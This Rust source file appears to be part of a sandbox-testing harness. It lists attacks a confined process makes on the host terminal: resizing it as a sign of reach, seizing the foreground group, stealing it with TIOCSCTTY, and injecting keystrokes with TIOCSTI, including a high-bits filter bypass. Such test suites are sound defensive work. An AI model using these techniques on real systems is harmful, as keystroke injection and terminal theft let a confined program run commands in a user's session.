//! The user's terminal: every way to a descriptor of it, and what can be done with one. The sign is a size that the host
//! looks for: whoever can set it can read what is typed and set the keys as well.

use std::fs::{self, File, OpenOptions};
use std::io;
use std::os::fd::{IntoRawFd, RawFd};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::{Path, PathBuf};

use nix::sched::CloneFlags;
use nix::sys::wait::{WaitStatus, waitpid};
use nix::unistd::Pid;

use super::{Act, Argument, Outcome, Scene, call, number, why};
use crate::sys::descriptor::inherited;
use crate::sys::process::{Side, fork};
use crate::sys::terminal::{Size, set_size};

/// The height that an attacker gives the host's terminal.
pub const ROWS: u16 = 4321;

pub(super) const ATTACKS: &[(&str, Act)] = &[
    ("resize-terminal-by-descriptor", |_| by_descriptor()),
    ("resize-terminal-by-number", |scene| by_path(&host_terminal(scene)?)),
    ("resize-terminal-by-other-process", by_other_process),
    ("resize-terminal-by-name", |_| by_path(Path::new("/dev/tty"))),
    ("resize-terminal-by-path", |_| by_path(Path::new("/proc/self/fd/0"))),
    ("take-the-front", take_the_front),
    ("steal-terminal", steal),
    ("type-into-terminal", |scene| type_into_terminal(scene.mark, 0)),
    ("type-into-terminal-high-bits", |scene| type_into_terminal(scene.mark, 1 << 32)),
];

fn host_terminal(scene: &Scene) -> Result<PathBuf, String> {
    scene.aim.terminal.as_ref().map(|(path, ..)| path.clone()).ok_or_else(|| "there is no terminal".into())
}

const SIZE: Size = Size { ws_row: ROWS, ws_col: 80, ws_xpixel: 0, ws_ypixel: 0 };

fn resize(number: RawFd) -> io::Result<()> {
    let descriptor = inherited(number)?;
    let resized = set_size(&descriptor, SIZE);
    // It stays open: others use the number.
    let _ = descriptor.into_raw_fd();
    resized
}

/// Everything that is open here, whatever its number.
fn by_descriptor() -> Outcome {
    let numbers = fs::read_dir("/proc/self/fd").map_err(why("list"))?.flatten();
    let numbers: Vec<RawFd> = numbers.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).collect();
    let resized: Vec<RawFd> = numbers.into_iter().filter(|number| resize(*number).is_ok()).collect();
    if resized.is_empty() { Err("no descriptor is a terminal".into()) } else { Ok(format!("{resized:?}")) }
}

fn open(path: &Path) -> Result<File, String> {
    let opened = OpenOptions::new().read(true).write(true).custom_flags(libc::O_NOCTTY).open(path);
    opened.map_err(why(&path.display().to_string()))
}

fn by_path(path: &Path) -> Outcome {
    set_size(open(path)?, SIZE).map_err(why("TIOCSWINSZ"))?;
    Ok(path.display().to_string())
}

/// What other processes hold: the one that runs this, and the init of the run.
fn by_other_process(scene: &Scene) -> Outcome {
    let (own, wanted) = (std::process::id().to_string(), host_terminal(scene)?);
    let mut resized = Vec::new();
    for process in fs::read_dir("/proc").map_err(why("list"))?.flatten() {
        let Ok(entries) = fs::read_dir(process.path().join("fd")) else { continue };
        for path in entries.flatten().map(|entry| entry.path()).filter(|_| process.file_name() != *own) {
            if fs::read_link(&path).is_ok_and(|target| target == wanted) && by_path(&path).is_ok() {
                resized.push(path);
            }
        }
    }
    if resized.is_empty() { Err("none holds it within reach".into()) } else { Ok(format!("{resized:?}")) }
}

/// A standard stream that is the host's terminal: the same inode of the same file system.
fn of_the_host(scene: &Scene) -> Result<i32, String> {
    let (_, device, inode) = scene.aim.terminal.as_ref().ok_or("there is no terminal")?;
    let is_it = |number: &i32| {
        let facts = fs::metadata(format!("/proc/self/fd/{number}"));
        facts.is_ok_and(|facts| (facts.dev(), facts.ino()) == (*device, *inode))
    };
    (0..3).find(is_it).ok_or_else(|| "no stream is the host's terminal".into())
}

/// Puts a group of its own in front: the user's keys and signals are its own then.
fn take_the_front(scene: &Scene) -> Outcome {
    let terminal = inherited(of_the_host(scene)?).map_err(why("take"))?;
    let _ = nix::unistd::setpgid(Pid::from_raw(0), Pid::from_raw(0));
    nix::sys::signal::SigSet::all().thread_block().map_err(why("block"))?;
    let own = nix::unistd::getpid();
    nix::unistd::tcsetpgrp(&terminal, own).map_err(why("TIOCSPGRP"))?;
    let _ = terminal.into_raw_fd();
    Ok(format!("group {own} stands in front"))
}

/// Takes the terminal away from the session that has it (`ioctl_tty(2)`, `TIOCSCTTY` with 1).
fn steal(scene: &Scene) -> Outcome {
    let terminal = of_the_host(scene)?;
    match fork(CloneFlags::empty()).map_err(why("fork"))? {
        Side::Child => {
            let _ = nix::unistd::setsid();
            let control = i64::try_from(libc::TIOCSCTTY).map_err(why("number"))?;
            let stolen = call(libc::SYS_ioctl, vec![number(terminal), number(control), number(1)]);
            let signal = if stolen.is_ok() { nix::sys::signal::SIGUSR1 } else { nix::sys::signal::SIGKILL };
            let _ = nix::sys::signal::kill(nix::unistd::getpid(), signal);
            Err("ended".into())
        }
        Side::Parent(child, _) => match waitpid(child, None).map_err(why("wait"))? {
            WaitStatus::Signaled(_, nix::sys::signal::SIGUSR1, _) => {
                Ok("it is the controlling terminal of another session".into())
            }
            other => Err(format!("{other:?}")),
        },
    }
}

/// Puts the mark into the input of the terminal on stdin, as if the user had typed it.
fn type_into_terminal(mark: &str, high_bits: i64) -> Outcome {
    let request = i64::try_from(libc::TIOCSTI).map_err(why("number"))? | high_bits;
    for byte in mark.as_bytes() {
        let arguments = vec![number(0), number(request), Argument::Bytes(std::slice::from_ref(byte))];
        call(libc::SYS_ioctl, arguments).map_err(why("TIOCSTI"))?;
    }
    Ok("typed".into())
}
